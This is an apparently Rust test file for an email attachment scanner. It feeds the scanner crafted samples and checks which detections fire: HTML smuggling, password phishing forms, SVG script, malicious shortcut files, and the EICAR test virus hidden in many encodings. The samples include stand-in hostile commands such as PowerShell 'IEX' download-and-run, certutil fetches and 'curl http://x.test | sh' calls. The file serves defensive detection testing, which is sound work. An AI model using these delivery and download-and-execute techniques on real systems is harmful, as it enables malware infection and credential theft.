//! PDF, pages, scripts, shortcuts and the like, walked through as attachments.

use std::io::Write;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::{DeflateEncoder, ZlibEncoder};

use super::super::fuzz;
use crate::message::contents::{Closed, Contents, Limits};
use crate::message::tests::hidden::eicar;
use crate::message::tests::walked::{walk, walk_file};

fn names(contents: &Contents) -> Vec<&'static str> {
    contents.remarks.iter().map(|remark| remark.name).collect()
}

fn holds(contents: &Contents, octets: &[u8]) -> bool {
    contents.items.iter().any(|item| {
        item.content
            .as_deref()
            .is_some_and(|content| memchr::memmem::find(content, octets).is_some())
            && item.depth > 0
    })
}

/// A program that starts as all do.
fn program() -> Vec<u8> {
    let mut out = vec![0; 0x200];
    out[..2].copy_from_slice(b"MZ");
    out[0x3c] = 0x80;
    out[0x80..0x84].copy_from_slice(b"PE\0\0");
    out
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A Windows link with arguments, an icon and what hangs behind it (MS-SHLLINK).
fn link(target: &str, arguments: &str, icon: &str, behind: &[u8]) -> Vec<u8> {
    let mut out = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    let flags: u32 = 1 << 3 | 1 << 5 | 1 << 6 | 1 << 7;
    out.extend(flags.to_le_bytes());
    out.resize(76, 0);
    for string in [target, arguments, icon] {
        out.extend((string.encode_utf16().count() as u16).to_le_bytes());
        out.extend(wide(string));
    }
    out.extend([0; 4]);
    out.extend(behind);
    out
}

/// A OneNote section with files between text.
fn section(files: &[&[u8]], names: &[&str]) -> Vec<u8> {
    let mut out = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    out.extend([0; 64]);
    for name in names {
        out.extend(wide(name));
        out.extend([0; 8]);
    }
    for file in files {
        out.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
        out.extend((file.len() as u64).to_le_bytes());
        out.extend([0; 12]);
        out.extend(*file);
        out.extend(b"\x22\xa7\xfb\x71\x79\x0f\x0b\x4a\xbb\x13\x89\x92\x56\x42\x6b\x24");
    }
    out
}

#[test]
fn pages_pictures_scripts_and_shortcuts_are_remarked() {
    let exe = STANDARD.encode(program());
    let unknown = STANDARD.encode(
        (0..3_000_u32)
            .map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8 | 0x80)
            .collect::<Vec<u8>>(),
    );
    let blob = |payload: &str| {
        format!(
            "<html><script>var d=atob('{payload}');var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.exe';a.click();</script></html>"
        )
    };
    let list = program().iter().map(u8::to_string).collect::<Vec<_>>().join(",");
    let command =
        STANDARD.encode(wide("IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')"));
    let escaped: String = "<form action='http://x.test'><input type=password></form>"
        .bytes()
        .map(|octet| format!("%{octet:02x}"))
        .collect();
    let joined = exe
        .as_bytes()
        .chunks(40)
        .map(|piece| format!("\"{}\"", String::from_utf8_lossy(piece)))
        .collect::<Vec<_>>()
        .join(" + ");
    let padded = format!("{}/c calc", " ".repeat(300));
    #[rustfmt::skip]
    let table: Vec<(&str, Vec<u8>, Vec<&str>, Vec<&str>)> = vec![
        // HTML: hits.
        ("a.html", blob(&exe).into(), vec!["HTML_SMUGGLING"], vec![]),
        ("a.html", blob(&unknown).into(), vec!["HTML_BLOB_PAYLOAD"], vec!["HTML_SMUGGLING"]),
        ("a.html", format!("<script>var d={joined};b=new Blob([atob(d)]);navigator.msSaveOrOpenBlob(b,'a.zip')</script>").into(), vec!["HTML_SMUGGLING"], vec![]),
        ("a.html", format!("<script>var b=new Uint8Array([{list}]);saveAs(new Blob([b]),'a.exe')</script>").into(), vec!["HTML_SMUGGLING"], vec![]),
        ("a.html", format!("<a id=x download=a.exe href=\"data:application/octet-stream;base64,{exe}\">get</a>").into(), vec!["HTML_SMUGGLING"], vec![]),
        ("a.html", format!("<script>document.write(unescape('{escaped}'))</script>").into(), vec!["HTML_WRITTEN_BY_SCRIPT", "HTML_CREDENTIAL_FORM"], vec![]),
        ("a.html", b"<html><form action=http://x.test><input TYPE='Password'></form></html>".to_vec(), vec!["HTML_CREDENTIAL_FORM"], vec![]),
        ("a.txt", b"<html><input type=password></html>".to_vec(), vec!["HTML_CREDENTIAL_FORM"], vec![]),
        ("a.htm", b"<meta http-equiv=refresh content='0; url=https://x.test/'>".to_vec(), vec!["HTML_REDIRECT"], vec![]),
        ("a.htm", b"<script>window.location.href = \"https://x.test\";</script>".to_vec(), vec!["HTML_REDIRECT"], vec![]),
        ("a.htm", b"<script>location.replace('https://x.test')</script>".to_vec(), vec!["HTML_REDIRECT"], vec![]),
        ("a.htm", b"<a href=\"search-ms:query=x&crumb=location:\\\\x.test\">x</a>".to_vec(), vec!["HTML_PROTOCOL_LAUNCH"], vec![]),
        ("a.htm", b"<script>location='ms-msdt:/id PCWDiagnostic'</script>".to_vec(), vec!["HTML_PROTOCOL_LAUNCH"], vec![]),
        ("a.htm", b"<iframe src='\\\\10.0.0.1\\x'></iframe>".to_vec(), vec!["HTML_REMOTE_FILE"], vec![]),
        ("a.htm", b"<html><script>document.write(atob('aGVsbG8='))</script></html>".to_vec(), vec!["HTML_WRITTEN_BY_SCRIPT"], vec![]),
        ("a.htm", format!("<html><script>{}</script></html>", "_0x1a2b(_0x3c)".repeat(40)).into(), vec!["HTML_OBFUSCATED"], vec![]),
        // HTML: near misses.
        ("a.html", b"<html><p>Hello</p><form><input type=text name=q></form></html>".to_vec(), vec![], vec!["HTML_CREDENTIAL_FORM", "HTML_SMUGGLING"]),
        ("a.html", b"<html><script>var b=new Blob(['a,b']);a.href=URL.createObjectURL(b);a.download='t.csv';a.click();unescape(x)</script></html>".to_vec(), vec!["HTML_BLOB_DOWNLOAD"], vec!["HTML_SMUGGLING", "HTML_BLOB_PAYLOAD"]),
        ("a.html", b"<html><img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='></html>".to_vec(), vec![], vec!["HTML_SMUGGLING"]),
        ("a.html", format!("<script src='data:application/javascript;base64,{}'></script><script>new Blob([x]);URL.createObjectURL(y);z.download=1;window.location</script>", STANDARD.encode("(function(){ var a = 1; return a; })(); eval('1')")).into(), vec![], vec!["HTML_SMUGGLING"]),
        ("a.html", b"<meta http-equiv=refresh content='30'>".to_vec(), vec![], vec!["HTML_REDIRECT"]),
        ("a.html", b"<meta http-equiv=refresh content='0; url=page2.html'>".to_vec(), vec![], vec!["HTML_REDIRECT"]),
        ("a.html", b"<p>Use search-ms: links and new Blob( in JavaScript</p>".to_vec(), vec![], vec!["HTML_PROTOCOL_LAUNCH", "HTML_SMUGGLING"]),
        // SVG.
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.png", b"<svg onload='alert(1)'/>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<svg><a xlink:href='java&#115;cript:alert(1)'><text>x</text></a></svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<svg><animate onbegin=alert(1) attributeName=x /></svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<svg><set attributeName=href to='javascript:alert(1)'/></svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<svg><foreignObject><form><input type=password></form></foreignObject></svg>".to_vec(), vec!["SVG_FOREIGN_OBJECT", "HTML_CREDENTIAL_FORM"], vec!["SVG_SCRIPT"]),
        ("a.svg", b"<svg><a href='https://x.test/login'><text>Open</text></a></svg>".to_vec(), vec!["SVG_LINK"], vec!["SVG_SCRIPT"]),
        ("a.svg", b"<!DOCTYPE svg [<!ENTITY x 'y'>]><svg/>".to_vec(), vec!["SVG_ENTITY"], vec!["SVG_SCRIPT"]),
        ("a.svg", b"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>x()</s:script></s:svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<svg><h:script xmlns:h='http://www.w3.org/1999/xhtml'>x()</h:script></svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<!DOCTYPE svg [<!ENTITY x '&#60;script&#62;x()&#60;/script&#62;'>]><svg>&x;</svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<!DOCTYPE svg [<!ENTITY % p \"<!ENTITY x '&#38;#60;script&#38;#62;x()'>\">%p;]><svg>&x;</svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<!DOCTYPE svg [<!ENTITY j 'java'><!ENTITY k '&j;script:'>]><svg><a href='&k;x()'/></svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<!DOCTYPE svg [<!ENTITY ns 'http://www.w3.org/2000/svg'>]><svg xmlns='&ns;'><a:path xmlns:a='&ns;'/></svg>".to_vec(), vec!["SVG_ENTITY"], vec!["SVG_SCRIPT"]),
        ("a.svg", b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#s'?><svg/>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<?xml version='1.0'?><?xml-stylesheet type='text/css' href='a.css'?><svg/>".to_vec(), vec![], vec!["SVG_SCRIPT"]),
        ("a.svg", b"<svg><set attributeName='onclick' to='x()'/></svg>".to_vec(), vec!["SVG_SCRIPT"], vec![]),
        ("a.svg", b"<svg><path d='M0 0'/><text>on load script</text></svg>".to_vec(), vec![], vec!["SVG_SCRIPT", "SVG_LINK"]),
        // Scripts: hits.
        ("a.vbs", b"Set x=CreateObject(\"MSXML2.XMLHTTP\"):CreateObject(\"WScript.Shell\").Run y".to_vec(), vec!["SCRIPT_DOWNLOAD_RUN"], vec![]),
        ("a.js", b"var s=new ActiveXObject('WScript.Shell');s.Run('calc')".to_vec(), vec!["SCRIPT_RUN"], vec!["SCRIPT_DOWNLOAD_RUN"]),
        ("a.js", b"var s='WScr'+'ipt.Sh'+'ell';".to_vec(), vec!["SCRIPT_RUN"], vec![]),
        ("a.ps1", b"I`nvoke-Web`Request http://x.test -OutFile a.exe; Start-Process a.exe".to_vec(), vec!["SCRIPT_DOWNLOAD_RUN"], vec![]),
        ("a.ps1", wide("\u{feff}IEX (iwr http://x.test/a)"), vec!["SCRIPT_DOWNLOAD_RUN"], vec![]),
        ("a.bat", b"@echo off\r\ncer^tutil -url^cache -f http://x.test/a.exe a.exe & a.exe".to_vec(), vec!["SCRIPT_DOWNLOAD_RUN"], vec![]),
        ("a.bat", b"powershell -w hidden -ep bypass -c x".to_vec(), vec!["SCRIPT_HIDDEN_COMMAND", "SCRIPT_RUN"], vec![]),
        ("a.cmd", format!("powershell -enc {command}").into(), vec!["SCRIPT_HIDDEN_COMMAND", "SCRIPT_DOWNLOAD_RUN"], vec![]),
        ("a.hta", b"<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"mshta http://x.test\"</script>".to_vec(), vec!["SCRIPT_RUN"], vec![]),
        ("a.wsf", b"<job><script language=JScript>new ActiveXObject('WinHttp.WinHttpRequest.5.1');shell.Exec(x)</script></job>".to_vec(), vec!["SCRIPT_DOWNLOAD_RUN"], vec![]),
        ("a.vbe", b"#@~^EwAAAA==Ud1Db2Yc2m4G,q^#~@".to_vec(), vec!["SCRIPT_ENCODED"], vec![]),
        ("a.vbs", format!("x={}", "Chr(65)&".repeat(60)).into(), vec!["SCRIPT_OBFUSCATED"], vec![]),
        ("a.js", format!("eval(\"{}\")", "\\x41".repeat(100)).into(), vec!["SCRIPT_OBFUSCATED"], vec![]),
        ("a.bat", "s^e^t^ ".repeat(40).into(), vec!["SCRIPT_OBFUSCATED"], vec![]),
        ("a.ps1", format!("$b=[Convert]::FromBase64String('{exe}')").into(), vec!["SCRIPT_PAYLOAD"], vec![]),
        ("a.reg", b"Windows Registry Editor Version 5.00\r\n[HKCU\\Run]\r\n\"x\"=\"powershell -nop x\"".to_vec(), vec!["SCRIPT_RUN"], vec![]),
        ("a.inf", b"[Version]\r\nSignature=\"$CHICAGO$\"\r\n[x]\r\nRunPreSetupCommands=rundll32 x".to_vec(), vec!["SCRIPT_RUN"], vec![]),
        ("a.xsl", b"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><ms:script>new ActiveXObject('WScript.Shell')</ms:script></xsl:stylesheet>".to_vec(), vec!["SCRIPT_RUN"], vec![]),
        ("a.py", b"import os\nos.system('x')".to_vec(), vec!["SCRIPT_RUN"], vec![]),
        // Scripts: near misses.
        ("a.js", b"function add(a, b) { return a + b; } // sum".to_vec(), vec![], vec!["SCRIPT_RUN", "SCRIPT_DOWNLOAD", "SCRIPT_OBFUSCATED"]),
        ("a.vbs", b"MsgBox \"Hello\"".to_vec(), vec![], vec!["SCRIPT_RUN", "SCRIPT_OBFUSCATED"]),
        ("a.ps1", b"$total = 1 + 2; Write-Host $total".to_vec(), vec![], vec!["SCRIPT_RUN", "SCRIPT_HIDDEN_COMMAND"]),
        ("a.bat", b"@echo off\r\ncopy a b".to_vec(), vec![], vec!["SCRIPT_RUN", "SCRIPT_OBFUSCATED"]),
        ("a.txt", b"Please run powershell and download the file.".to_vec(), vec![], vec!["SCRIPT_RUN", "SCRIPT_DOWNLOAD"]),
        // Shortcuts: hits.
        ("a.lnk", link("..\\..\\Windows\\System32\\cmd.exe", "/c calc", "", b""), vec!["LNK_COMMAND"], vec!["LNK_PADDING", "LNK_PAYLOAD"]),
        ("a.pdf", link("powershell.exe", &format!("-enc {command}"), "", b""), vec!["LNK_COMMAND", "SCRIPT_DOWNLOAD_RUN"], vec![]),
        ("a.lnk", link("m^shta.exe", "http://x.test", "", b""), vec!["LNK_COMMAND"], vec![]),
        ("a.lnk", link("cmd.exe", &padded, "", b""), vec!["LNK_COMMAND", "LNK_PADDING"], vec![]),
        ("a.lnk", link("explorer.exe", "\\\\10.0.0.1\\dav\\x.exe", "", b""), vec!["SHORTCUT_REMOTE"], vec![]),
        ("a.lnk", link("a.txt", "", "\\\\10.0.0.1\\i.ico", b""), vec!["SHORTCUT_REMOTE"], vec![]),
        ("a.lnk", link("a.txt", "", "", &[program(), vec![1]].concat()), vec!["LNK_PAYLOAD"], vec![]),
        ("a.url", b"[InternetShortcut]\r\nURL=file://x.test/a.exe\r\n".to_vec(), vec!["SHORTCUT_COMMAND"], vec![]),
        ("a.url", b"[InternetShortcut]\r\nURL=http://x.test\r\nIconFile=\\\\10.0.0.1\\a.ico".to_vec(), vec!["SHORTCUT_LINK", "SHORTCUT_REMOTE"], vec![]),
        ("a.desktop", b"[Desktop Entry]\nExec=sh -c 'curl http://x.test | sh'".to_vec(), vec!["SHORTCUT_COMMAND"], vec![]),
        ("a.webloc", b"<?xml version='1.0'?><plist><dict><key>URL</key><string>http://x.test</string></dict></plist>".to_vec(), vec!["SHORTCUT_LINK"], vec![]),
        ("a.library-ms", b"<libraryDescription><simpleLocation><url>\\\\x.test\\dav</url></simpleLocation></libraryDescription>".to_vec(), vec!["SHORTCUT_REMOTE"], vec![]),
        ("a.settingcontent-ms", b"<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>".to_vec(), vec!["SHORTCUT_COMMAND", "SCRIPT_RUN"], vec![]),
        ("a.rdp", b"full address:s:x.test\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||x".to_vec(), vec!["RDP_FILE", "RDP_REDIRECTS", "RDP_PROGRAM"], vec![]),
        ("a.application", b"<asmv1:assembly xmlns:asmv1='x'><deployment><deploymentProvider codebase=\"http://x.test/a.application\"/></deployment></asmv1:assembly>".to_vec(), vec!["WEB_INSTALLER"], vec![]),
        ("a.jnlp", b"<jnlp codebase='http://x.test/' href='a.jnlp'></jnlp>".to_vec(), vec!["WEB_INSTALLER"], vec![]),
        ("a.msc", b"<?xml version='1.0'?><MMC_ConsoleFile><String>res://apds.dll/redirect.html?target=javascript:eval(x)</String></MMC_ConsoleFile>".to_vec(), vec!["MSC_SCRIPT"], vec![]),
        ("a.scf", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.1\\x.ico".to_vec(), vec!["SHORTCUT_REMOTE"], vec![]),
        // Shortcuts: near misses.
        ("a.lnk", link("C:\\Docs\\report.docx", "", "C:\\i.ico", b""), vec![], vec!["LNK_COMMAND", "LNK_ARGUMENTS", "SHORTCUT_REMOTE", "LNK_PAYLOAD"]),
        ("a.lnk", link("notepad.exe", "a.txt", "", b""), vec!["LNK_ARGUMENTS"], vec!["LNK_COMMAND"]),
        ("a.url", b"[InternetShortcut]\r\nURL=https://x.test/\r\nIconIndex=0".to_vec(), vec!["SHORTCUT_LINK"], vec!["SHORTCUT_REMOTE", "SHORTCUT_COMMAND"]),
        // OneNote, calendars, programs, pictures.
        ("a.one", section(&[&program()], &["Click to view.hta"]), vec!["ONENOTE_EMBEDDED_FILE"], vec![]),
        ("a.one", section(&[b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82"], &["picture"]), vec![], vec!["ONENOTE_EMBEDDED_FILE"]),
        ("a.ics", b"BEGIN:VCALENDAR\r\nDESCRIPTION:join https://x.te\r\n st/a\r\nEND:VCALENDAR".to_vec(), vec!["CALENDAR_LINK"], vec![]),
        ("a.ics", b"BEGIN:VCALENDAR\r\nSUMMARY:lunch\r\nEND:VCALENDAR".to_vec(), vec![], vec!["CALENDAR_LINK", "CALENDAR_ATTACHMENT"]),
        ("a.ics", b"BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:Proce\r\n dure\r\nATTACH:file:///c:/windows/x.exe\r\nEND:VALARM".to_vec(), vec!["CALENDAR_PROCEDURE"], vec![]),
        ("a.ics", b"BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nDESCRIPTION:procedure\r\nEND:VALARM".to_vec(), vec![], vec!["CALENDAR_PROCEDURE"]),
        ("a.vcf", b"BEGIN:VCARD\r\nURL:http://x.test\r\nEND:VCARD".to_vec(), vec!["CALENDAR_LINK"], vec![]),
        ("a.exe", [program(), b"7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0".to_vec(), vec![0; 8], vec![9, 0, 0, 0], vec![0; 64]].concat(), vec!["PROGRAM_ARCHIVE"], vec![]),
        ("a.exe", [program(), b"7z\xbc\xaf\x27\x1c\x55\x55".to_vec(), vec![0; 64]].concat(), vec![], vec!["PROGRAM_ARCHIVE"]),
        ("a.png", [b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82".to_vec(), program()].concat(), vec!["PICTURE_APPENDED"], vec![]),
        ("a.jpg", [b"\xff\xd8\xff\xe0xxxx\xff\xd9".to_vec(), b"Rar!\x1a\x07\x01\0aaaa\x03\x01\0\0aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".to_vec()].concat(), vec!["PICTURE_APPENDED"], vec![]),
        ("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82\0\0".to_vec(), vec![], vec!["PICTURE_APPENDED"]),
        ("a.asc", format!("-----BEGIN PGP MESSAGE-----\nVersion: 1\n\n{}\n=abcd\n-----END PGP MESSAGE-----", STANDARD.encode([0xd2, 3, 1, 9, 9])).into(), vec!["MESSAGE_ENCRYPTED"], vec![]),
        ("a.p7m", b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80".to_vec(), vec!["MESSAGE_ENCRYPTED"], vec![]),
        ("a.p7s", b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80".to_vec(), vec![], vec!["MESSAGE_ENCRYPTED"]),
        ("a.cer", b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----".to_vec(), vec![], vec!["MESSAGE_ENCRYPTED"]),
    ];
    assert!(table.len() >= 80);
    let mut wrong = Vec::new();
    for (name, octets, wanted, unwanted) in &table {
        let (contents, _) = walk_file(name, octets);
        let found = names(&contents);
        if !wanted.iter().all(|name| found.contains(name))
            || unwanted.iter().any(|name| found.contains(name))
        {
            let start = String::from_utf8_lossy(&octets[..octets.len().min(90)]).into_owned();
            let natures: Vec<_> = contents.items.iter().map(|item| item.nature).collect();
            wrong.push(format!(
                "{name} {start:?}: {found:?} {natures:?}, wanted {wanted:?} but not {unwanted:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// What is only signed: a literal data packet, within compression.
fn pgp(octets: &[u8]) -> Vec<u8> {
    let mut literal = vec![0xcb, 0xff];
    literal.extend((octets.len() as u32 + 11).to_be_bytes());
    literal.extend(b"b\x05a.com\0\0\0\0");
    literal.extend(octets);
    let mut encoder = DeflateEncoder::new(vec![0xc8, 0xff, 0, 0, 0, 0, 1], Compression::default());
    encoder.write_all(&literal).unwrap();
    let mut out = encoder.finish().unwrap();
    let length = out.len() as u32 - 6;
    out[2..6].copy_from_slice(&length.to_be_bytes());
    out
}

/// Signed data whose content is in two pieces of indefinite length.
fn cms(octets: &[u8]) -> Vec<u8> {
    let mut out = b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80\x30\x80\x02\x01\x01\x31\0\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x80\x24\x80".to_vec();
    for piece in octets.chunks(40) {
        out.push(4);
        out.push(piece.len() as u8);
        out.extend(piece);
    }
    out.extend([0; 10]);
    out
}

#[test]
fn the_test_virus_is_found_wherever_it_hides() {
    let eicar = eicar();
    let text = String::from_utf8(eicar.clone()).unwrap();
    let base64 = STANDARD.encode(&eicar);
    let list = |prefix: &str| {
        eicar
            .iter()
            .map(|octet| {
                format!(
                    "{prefix}{}",
                    if prefix.is_empty() { octet.to_string() } else { format!("{octet:02x}") }
                )
            })
            .collect::<Vec<_>>()
            .join(", ")
    };
    let hex: String = eicar.iter().map(|octet| format!("{octet:02X}")).collect();
    let percent: String = eicar.iter().map(|octet| format!("%{octet:02x}")).collect();
    let slashes: String = eicar.iter().map(|octet| format!("\\x{octet:02x}")).collect();
    let reversed: String = base64.chars().rev().collect();
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xae\x42\x60\x82".to_vec();
    let mut zlib = ZlibEncoder::new(Vec::new(), Compression::default());
    zlib.write_all(&eicar).unwrap();
    let packed = zlib.finish().unwrap();
    let compressed = {
        let mut out = b"\x30\x80\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x09\xa0\x80\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x80\x04".to_vec();
        out.push(packed.len() as u8);
        out.extend(&packed);
        out
    };
    #[rustfmt::skip]
    let table: Vec<(&str, Vec<u8>)> = vec![
        ("a.html", format!("<a href='data:application/octet-stream;base64,{base64}'>x</a>").into()),
        ("a.html", format!("<a href=\"data:application/octet-stream,{percent}\">x</a>").into()),
        ("a.html", format!("<script>x = '{base64}'</script>").into()),
        ("a.html", format!("<script>x = '{}' + \"{}\"</script>", &base64[..40], &base64[40..]).into()),
        ("a.html", format!("<script>x = '{}' +\n  '{}'</script>", &base64[..44], &base64[44..]).into()),
        ("a.html", format!("<script>x = '{reversed}'</script>").into()),
        ("a.html", format!("<script>x = [{}]</script>", list("")).into()),
        ("a.html", format!("<script>x = String.fromCharCode({})</script>", list("0x")).into()),
        ("a.js", format!("var x = '{hex}';").into()),
        ("a.js", format!("var x = '{slashes}';").into()),
        ("a.js", format!("x = unescape('{percent}')").into()),
        ("a.vbs", format!("x = \"{}\" & _\r\n \"{}\"", &base64[..44], &base64[44..]).into()),
        ("a.svg", format!("<svg><image href='data:text/plain;base64,{base64}'/></svg>").into()),
        ("a.one", section(&[&png, &eicar], &["a.com"])),
        ("a.lnk", link("a", "", "", &[&eicar[..], &[0; 8]].concat())),
        ("a.ics", format!("BEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.com:{}\r\n {}\r\nEND:VCALENDAR", &base64[..40], &base64[40..]).into()),
        ("a.ics", format!("BEGIN:VCALENDAR\r\nATTACH:data:application/x;base64,{base64}\r\n").into()),
        ("a.vcf", format!("BEGIN:VCARD\r\nPHOTO;ENCODING=b;TYPE=JPEG:{base64}\r\n").into()),
        ("a.png", [&png[..], &eicar].concat()),
        ("a.gpg", pgp(&eicar)),
        ("a.asc", format!("-----BEGIN PGP MESSAGE-----\n\n{}\n-----END PGP MESSAGE-----\n", STANDARD.encode(pgp(&eicar))).into()),
        ("smime.p7m", cms(&eicar)),
        ("smime.p7m", STANDARD.encode(cms(&eicar)).into()),
        ("smime.p7z", compressed),
    ];
    let mut wrong = Vec::new();
    for (name, octets) in &table {
        let (contents, _) = walk_file(name, octets);
        let content = contents.items.iter().any(|item| {
            item.depth > 0
                && item
                    .content
                    .as_deref()
                    .is_some_and(|content| memchr::memmem::find(content, text.as_bytes()).is_some())
        });
        if !content || !holds(&contents, &eicar) {
            let start = String::from_utf8_lossy(&octets[..octets.len().min(70)]).into_owned();
            wrong.push(format!(
                "{name} {start:?}: {:?}",
                contents.items.iter().map(|item| (&item.path, item.nature)).collect::<Vec<_>>()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_body_of_a_message_is_not_an_attached_page() {
    let message = b"From: a@x.test\r\nContent-Type: text/html\r\n\r\n<html><form><input type=password></form><script>location.href='http://x.test'</script></html>";
    let (contents, text) = walk(message.to_vec(), Limits::default());
    assert_eq!(names(&contents), [""; 0]);
    // Its text is read with the message.
    assert!(text.trim().is_empty());
    let (_, text) = walk_file("a.html", b"<html><b>seen</b></html>");
    assert!(text.contains("seen"));
}

#[test]
fn names_and_texts_are_told() {
    let (contents, text) = walk_file(
        "a.one",
        &section(&[&program()], &["Click to view.hta", "See the attached document"]),
    );
    assert_eq!(contents.items[1].name, "Click to view.hta");
    assert!(text.contains("See the attached document"));
    let (_, text) = walk_file("a.ics", b"BEGIN:VCALENDAR\r\nDESCRIPTION:first\\nhttps://x.te\r\n st/a\r\nX-ALT-DESC;FMTTYPE=text/html:<b>bold</b>");
    assert!(text.contains("https://x.test/a") && text.contains("bold"));
    let (_, text) = walk_file("a.lnk", &link("cmd.exe", "/c echo hello", "", b""));
    assert!(text.contains("/c echo hello"));
    let command = STANDARD.encode(wide("Write-Host decoded-words"));
    let (_, text) = walk_file("a.bat", format!("powershell -EncodedCommand {command}").as_bytes());
    assert!(text.contains("decoded-words"));
    let (contents, _) =
        walk_file("a.p7m", b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80");
    assert_eq!(contents.items[0].closed, Some(Closed::Encrypted));
}

#[test]
fn hostile_files_end() {
    let table: Vec<(&str, Vec<u8>)> = vec![
        ("a.html", "data:,".repeat(500_000).into()),
        ("a.html", "<script>[1,".repeat(200_000).into()),
        ("a.html", "\"a\"+".repeat(300_000).into()),
        ("a.html", "A".repeat(4 << 20).into()),
        ("a.html", "<meta ".repeat(200_000).into()),
        ("a.html", "location.href=".repeat(100_000).into()),
        ("a.svg", format!("<svg>{}", "<a href='".repeat(100_000)).into()),
        ("a.js", "'+".repeat(500_000).into()),
        ("a.js", "%41".repeat(300_000).into()),
        ("a.ps1", "-e ".repeat(300_000).into()),
        ("a.ics", format!("BEGIN:VCALENDAR\r\n{}", " x\r\n".repeat(300_000)).into()),
        ("a.ics", format!("BEGIN:VCALENDAR\r\n{}", "X;QUOTED-PRINTABLE:=\r\n".repeat(100_000)).into()),
        ("a.one", section(&[&b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac".repeat(50_000)], &[])),
        ("a.p7m", [b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01".to_vec(), b"\x24\x80".repeat(500_000)].concat()),
        ("a.pgp", [0xc8, 0x01, 1].repeat(100_000)),
        ("a.gif", [b"GIF89a\x01\0\x01\0\0\0\0".to_vec(), vec![0x21; 1 << 20]].concat()),
        ("a.url", "[InternetShortcut]\nURL=\\\\x\n".repeat(50_000).into()),
        ("a.lnk", [link("a", "", "", b"")[..76].to_vec(), vec![0xff; 1 << 20]].concat()),
    ];
    for (name, octets) in &table {
        let begins = std::time::Instant::now();
        fuzz::document(&[&[19], octets.as_slice()].concat());
        walk_file(name, octets);
        // Debug builds are slow; the purse ends the walk.
        assert!(begins.elapsed().as_secs() < 8, "{name} {:?}", begins.elapsed());
    }
}

#[test]
fn broken_files_do_not_panic() {
    let samples: Vec<(&str, Vec<u8>)> = vec![
        ("a.lnk", link("cmd.exe", "/c x", "icon", b"behind the link there is more of it")),
        ("a.one", section(&[b"MZ", b"x"], &["a.hta"])),
        ("a.p7m", cms(b"hello")),
        ("a.pgp", pgp(b"hello")),
        ("a.exe", program()),
        ("a.ics", b"BEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64:eHh4\r\n".to_vec()),
        (
            "a.html",
            b"<html><meta http-equiv=refresh content='0;url=x'><a href='data:;base64,eHh4'>[1,2]"
                .to_vec(),
        ),
